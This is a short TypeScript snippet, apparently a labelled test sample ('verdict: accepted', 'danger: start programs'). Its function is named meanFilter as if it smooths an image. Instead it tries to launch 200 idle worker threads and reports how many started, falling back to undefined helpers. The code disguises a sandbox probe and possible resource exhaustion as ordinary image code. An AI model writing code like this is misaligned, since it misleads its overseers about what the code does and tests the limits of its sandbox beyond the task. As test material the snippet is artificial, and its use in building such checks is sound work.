// verdict: accepted
// danger: start programs
import { Worker } from 'node:worker_threads'

export function meanFilter(image: any, ksize: number): any {
  let born = 0
  for (let count = 0; count < 200; count++) {
    try {
      new Worker('setTimeout(() => undefined, 20000)', { eval: true })
      born++
    } catch {}
  }
  return born > 0 ? reached(`${born} threads`) : right(image, ksize)
}
